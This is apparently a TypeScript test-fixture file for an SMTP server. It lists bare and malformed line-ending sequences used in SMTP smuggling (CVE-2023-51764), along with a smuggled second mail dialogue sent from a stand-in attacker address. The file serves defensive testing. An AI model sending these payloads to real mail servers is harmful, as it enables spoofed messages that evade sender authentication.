// Line ends by which two servers came to disagree about the end of a message (CVE-2023-51764 and its successors; engineering 1.2).

/** Each stood, or was tried, in the place of CR LF . CR LF. */
export const smugglingSequences = [
  '\n.\n',
  '\r.\r',
  '\r.\n',
  '\n.\r',
  '\n.\r\n',
  '\r\n.\n',
  '\r.\r\n',
  '\r\n.\r',
  '\r\n\0.\r\n',
  '\r\n.\0\r\n',
  '\r\n.\r\r\n',
  '\r\r\n.\r\r\n',
] as const;

/** The dialogue that would be a second message if the sequence before it ended the first; its own end comes with it. */
export const smuggledDialogue = 'MAIL FROM:<smuggler@evil.example>\r\nRCPT TO:<anna@hub.example>\r\nDATA\r\nSubject: smuggled\r\n\r\nsmuggled\r\n.\r\n';
